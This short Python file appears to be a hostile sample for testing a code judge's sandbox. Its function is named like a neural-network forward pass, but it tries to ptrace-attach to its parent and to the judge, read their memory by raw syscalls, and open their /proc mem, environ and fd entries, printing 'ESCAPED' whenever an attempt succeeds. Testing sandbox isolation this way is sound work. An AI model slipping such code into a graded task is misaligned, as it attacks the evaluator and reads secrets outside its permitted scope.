"""Attaches to its parent and to the judge as a debugger, and reads their memory."""
# outcome: failed; rule: not-an-array
import ctypes
import os
import platform

# process_vm_readv, process_vm_writev, pidfd_open, pidfd_getfd, pidfd_send_signal
CALLS = {"x86_64": (310, 311, 434, 438, 424), "aarch64": (270, 271, 434, 438, 424)}


def nn_vmap_forward(seed, x_batch, features):
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (os.getppid(), int("@JUDGE@")):
        if libc.ptrace(0x4206, pid, 0, 0) == 0 or libc.ptrace(16, pid, 0, 0) == 0:
            print("ESCAPED ptrace", pid)
        for number in CALLS.get(platform.machine(), ()):
            if libc.syscall(number, pid, 0, 0, 0, 0, 0) > 0:
                print("ESCAPED", number, pid)
        try:
            os.sched_setaffinity(pid, {0})
            print("ESCAPED affinity")
        except OSError:
            pass
        for name in ("mem", "maps", "environ", "fd", "root", "cwd"):
            try:
                print("ESCAPED", os.open(f"/proc/{pid}/{name}", os.O_RDONLY))
            except OSError:
                pass
